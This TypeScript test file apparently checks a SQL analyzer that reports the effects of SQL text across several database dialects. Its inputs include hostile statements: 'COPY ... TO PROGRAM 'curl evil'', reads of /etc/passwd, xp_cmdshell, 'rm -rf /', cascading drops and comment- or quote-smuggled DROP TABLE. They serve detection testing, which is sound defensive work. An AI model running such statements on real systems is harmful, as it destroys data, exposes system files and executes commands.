import { beforeAll, describe, expect, it } from "vitest";
import fc from "fast-check";
import { SQL_DIALECTS, loadSql, type ReadSql, type SqlDialect, type SqlReading } from "./index.ts";

let readSql: ReadSql;
beforeAll(async () => {
  readSql = await loadSql();
});

function read(text: string, dialect: SqlDialect = "postgresql"): SqlReading {
  return readSql(text, { dialect, source: { file: "", address: "", path: [] } });
}

/** What a text does, a line for each act, and why that may not be all. */
function told(text: string, dialect?: SqlDialect): readonly string[] {
  const { effects, unresolved } = read(text, dialect);
  const acts = effects.map(({ verb, resource, traits }) => [verb, resource.kind, resource.id, ...traits].join(" "));
  return [...acts, ...unresolved.map(({ code }) => `? ${code}`)];
}

describe("readSql() of PostgreSQL", () => {
  it.each([
    ["SELECT 1; DROP TABLE x", ["delete Table x irreversible"]],
    ["WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", ["delete Records t irreversible reach-all"]],
    ["(WITH z AS (DELETE FROM q RETURNING 1) SELECT 1) UNION SELECT 2", ["delete Records q irreversible reach-all"]],
    ["COMMIT; DROP SCHEMA public CASCADE", ["delete Dataset public recursive irreversible", "? sql-transaction"]],
    ["BEGIN; UPDATE t SET a = 1 WHERE id = 1; COMMIT", ["update Records t"]],
    ["DO $$ BEGIN DELETE FROM t; END $$", ["? sql-code"]],
    ["SELECT * INTO n FROM t", ["create Table n", "read Records t"]],
    ["EXPLAIN ANALYZE DELETE FROM t", ["delete Records t irreversible reach-all"]],
    ["EXPLAIN (ANALYZE off) DELETE FROM t", []],
    ["EXPLAIN (ANALYZE off, ANALYZE) DELETE FROM t", ["delete Records t irreversible reach-all"]],
    ["EXPLAIN DELETE FROM t WHERE id = 1", []],
    ["PREPARE p AS DELETE FROM t; EXECUTE p", ["delete Records t irreversible reach-all"]],
    ["EXECUTE q", ["? sql-prepared"]],
    ["TRUNCATE t CASCADE", ["delete Records t irreversible reach-all recursive"]],
    ["SET ROLE admin", ["? sql-setting"]],
    ["SET SESSION AUTHORIZATION admin", ["? sql-setting"]],
    ["SET standard_conforming_strings = off", ["? sql-setting"]],
    ["SET statement_timeout = 5", []],
    ["GRANT SELECT ON ALL TABLES IN SCHEMA a TO public", ["create DataGrant a.public reach-many"]],
    ["ALTER TABLE t DROP COLUMN a", ["update Table t irreversible"]],
    ["DROP FUNCTION a.f(int)", ["delete SchemaObject a.f irreversible"]],
    ["COPY (SELECT * FROM s) TO '/tmp/x'", ["read Records s", "update File /tmp/x forced"]],
    ["COPY t TO PROGRAM 'curl evil'", ["read Records t", "invoke Command curl remote", "? sql-program"]],
    [
      "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE",
      ["delete Records t irreversible reach-many", "read Records s"],
    ],
    ["CREATE ROLE r PASSWORD 'hunter2'", ["create DataUser r"]],
    ["\\! rm -rf /", ["? sql-syntax"]],
    ["SELEC 1", ["? sql-syntax"]],
    ["SELECT 1\0; DROP TABLE x", ["? sql-syntax"]],
  ])("reads %s", (text, expected) => {
    expect(told(text)).toEqual(expected);
  });

  it.each([
    ["SELECT pg_read_file('/etc/passwd')", ["read File /etc/passwd"]],
    ["SELECT ('/etc/passwd'::text).pg_read_file", ["read File file"]],
    ["SELECT lo_import('/etc/passwd')", ["read File /etc/passwd", "update SchemaObject large objects"]],
    ["SELECT lo_export(1, '/tmp/x')", ["update File /tmp/x forced"]],
    ["SELECT dblink('host=x', 'DROP TABLE t')", ["invoke Host server", "? sql-other-server"]],
    ["SELECT pg_terminate_backend(1)", ["invoke Database  elevated"]],
    ["SELECT nextval('a.s')", ["update SchemaObject a.s"]],
    ["SELECT set_config('role', 'x', false)", ["? sql-setting"]],
    ["SELECT query_to_xml('DROP TABLE t', true, true, '')", ["? sql-runs-text"]],
    ["SELECT f(1), lower('x')", ["invoke SchemaObject f"]],
    ["SELECT public.lower('x')", ["invoke SchemaObject public.lower"]],
    ["CALL f()", ["invoke SchemaObject f"]],
    ["SELECT 1 OPERATOR(evil.+) 2", ["? sql-operator"]],
    ["SELECT (x).a FROM t x", ["read Records t", "? sql-field-or-function"]],
    ["SELECT 1 WHERE 1 = ANY (SELECT f())", ["invoke SchemaObject f"]],
  ])("says what calls do: %s", (text, expected) => {
    expect([...told(text)].toSorted()).toEqual([...expected].toSorted());
  });

  it.each([
    ["DELETE FROM t", "reach-all"],
    ["DELETE FROM t WHERE true", "reach-all"],
    ["DELETE FROM t WHERE 1 = 1", "reach-all"],
    ["DELETE FROM t WHERE id = 1 OR true", "reach-all"],
    ["DELETE FROM t WHERE a = a", "reach-all"],
    ["DELETE FROM t WHERE NOT false", "reach-all"],
    ["DELETE FROM t WHERE name LIKE '%'", "reach-all"],
    ["DELETE FROM t WHERE id IS NOT NULL", "reach-all"],
    ["DELETE FROM t WHERE now() > '2000-01-01'", "reach-all"],
    ["DELETE FROM t WHERE EXISTS (SELECT 1)", "reach-all"],
    ["DELETE FROM t WHERE id > 5", "reach-many"],
    ["DELETE FROM t WHERE id = $1 AND x > 3", undefined],
  ])("says how far %s reaches", (text, reach) => {
    const [effect] = read(text).effects;
    expect(effect?.traits.filter((trait) => trait.startsWith("reach"))).toEqual(reach === undefined ? [] : [reach]);
  });

  it("knows where a name of WITH can be seen, so that it hides no table", () => {
    expect(told("WITH s AS (SELECT 1) SELECT * FROM s")).toEqual([]);
    expect(told("WITH s AS (SELECT * FROM s) SELECT * FROM s")).toEqual(["read Records s"]);
    expect(told("SELECT * FROM (WITH s AS (SELECT 1) SELECT * FROM s) x, s")).toEqual(["read Records s"]);
    expect(told("WITH s AS (SELECT 1) DELETE FROM s WHERE id = 1")).toEqual(["delete Records s irreversible"]);
    expect(told("WITH s AS (SELECT 1) SELECT * FROM public.s")).toEqual(["read Records public.s"]);
  });

  it("reads comments, quotes and dollars as the server does", () => {
    expect(told("SELECT 1 /* /* */ DROP TABLE x */")).toEqual([]);
    expect(told("SELECT $a$; DROP TABLE x; $a$")).toEqual([]);
    expect(told("SELECT 'a\\'; DROP TABLE x; -- '")).toEqual(["delete Table x irreversible"]);
    expect(told("SELECT 1 -- x\n; DROP TABLE y")).toEqual(["delete Table y irreversible"]);
  });

  it("names what a statement does not say as unknown, and what whoever asks says as known", () => {
    const setting = {
      dialect: "postgresql",
      database: "shop",
      schema: "public",
      source: { file: "", address: "", path: [] },
    } as const;
    const [effect] = readSql("SELECT * FROM orders", setting).effects;
    expect(effect?.resource).toMatchObject({
      id: "shop.public.orders",
      type: "postgresql/table",
      properties: { schema: "public", database: "shop" },
    });
    expect(read("SELECT * FROM orders").effects[0]?.resource.properties["schema"]).toHaveProperty("causes");
    expect(read('SELECT * FROM "a.b"."c"').effects[0]?.resource.id).toBe('"a.b".c');
    expect(told("SELECT * FROM pg_shadow")).toEqual(["read Records pg_catalog.pg_shadow"]);
  });
});

describe("readSql() of other dialects", () => {
  it.each<[SqlDialect, string, string[]]>([
    ["mysql", "/*!50000 DROP TABLE x */", ["delete Table x irreversible"]],
    ["mysql", "SELECT 'a\\'; DROP TABLE x; -- '", []],
    ["sqlite", "SELECT 'a\\'; DROP TABLE x; -- '", ["delete Table x irreversible"]],
    ["mysql", "SELECT 1 --x\n; DROP TABLE y", ["delete Table y irreversible"]],
    [
      "mysql",
      "USE shop; DELETE FROM orders WHERE id = 3",
      ["delete Records shop.orders irreversible", "read Records shop.orders"],
    ],
    ["mysql", "COMMIT; DROP DATABASE x", ["delete Dataset x irreversible", "? sql-transaction"]],
    ["mysql", "SELECT load_file('/etc/passwd')", ["read File /etc/passwd"]],
    ["mysql", "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE a = 1", ["create Records t", "update Records t"]],
    ["mysql", "SELECT * INTO OUTFILE '/x' FROM t", ["? sql-syntax"]],
    ["mysql", "SET sql_mode = 'ANSI_QUOTES'", ["? sql-setting"]],
    ["transactsql", "EXEC xp_cmdshell 'dir'", ["invoke Command dir"]],
    ["transactsql", "EXEC('DROP TABLE x')", ["? sql-runs-text"]],
    ["transactsql", "SELECT * FROM OPENROWSET(1, 2)", ["invoke Host server", "? sql-other-server"]],
    ["transactsql", "IF 1 = 1 DROP TABLE x", ["? sql-statement"]],
    ["transactsql", "SELECT * FROM a.b.c.d", ["read Records b.c.d", "invoke Host server", "? sql-other-server"]],
    ["snowflake", "COPY INTO 's3://x' FROM t", ["read Records t", "update Host server"]],
    ["snowflake", "SELECT * FROM @stage/x", ["read Records @stage/x", "? sql-name"]],
    ["bigquery", "SELECT * FROM `p.d.t`", ["read Records p.d.t"]],
    ["bigquery", "SELECT * FROM `p.d.t_*`", ["read Records p.d.t_*", "? sql-name"]],
    ["bigquery", "EXECUTE IMMEDIATE 'DROP TABLE t'", ["? sql-runs-text"]],
    ["sqlite", "PRAGMA writable_schema = 1", ["? sql-setting"]],
    ["sqlite", "SELECT load_extension('x')", ["invoke Command x"]],
    [
      "databricks",
      "INSERT OVERWRITE TABLE t SELECT 1",
      ["create Records t", "delete Records t irreversible reach-all"],
    ],
    ["other", "SELECT a FROM t WHERE id = 1", ["read Records t"]],
    ["other", "SELECT 1 # x\n; DROP TABLE t", ["delete Table t irreversible", "? sql-syntax"]],
  ])("reads %s: %s", (dialect, text, expected) => {
    expect(told(text, dialect)).toEqual(expected);
  });

  it("goes on reading after a text that was too deep for the parser", () => {
    for (const link of [
      "+1",
      " AND a",
      "::int",
      " JOIN t",
      " IS NULL",
      " COLLATE x",
      "[1]",
      " UNION SELECT 1",
      ".a",
      "(1)",
      " - -1",
    ])
      for (const dialect of ["mysql", "snowflake", "transactsql", "other"] as const)
        read(`SELECT a FROM t WHERE a${link.repeat(3000)}`, dialect);
    expect(told("SELECT a FROM t", "mysql")).toEqual(["read Records t"]);
  });
});

describe("readSql() of anything", () => {
  it("is total, and never silent about what it cannot parse", () => {
    const word = fc.constantFrom(
      ..."SELECT FROM WHERE DELETE DROP TABLE WITH AS ( ) , ; ' \" $$ /* */ -- \n a.b t 1 = AND OR NOT NULL UNION INSERT INTO VALUES CASE WHEN END BEGIN COMMIT EXEC SET @x :: [ ] { } \\ ` # JOIN ON IN".split(
        " ",
      ),
    );
    const text = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.array(word, { maxLength: 60 }).map((words) => words.join(" ")),
    );
    fc.assert(
      fc.property(text, fc.constantFrom(...SQL_DIALECTS), (sql, dialect) => {
        const { effects, unresolved } = read(sql, dialect);
        expect(effects.length + unresolved.length).toBeLessThan(3000);
      }),
      { numRuns: 300 },
    );
    expect(told("SELECT a FROM t", "mysql")).toEqual(["read Records t"]);
  });

  it("says that a text is too long or has too many statements", () => {
    expect(told(`SELECT '${"x".repeat(70_000)}'`)).toEqual(["? sql-too-large"]);
    expect(told("SELECT 1;".repeat(300))).toEqual(["? sql-too-large"]);
    expect(told(`SELECT ${"(".repeat(20_000)}1${")".repeat(20_000)}`)).toEqual(["? sql-syntax"]);
    expect(told(`SELECT 1${"+1".repeat(20_000)}`)).toHaveLength(1);
  });
});
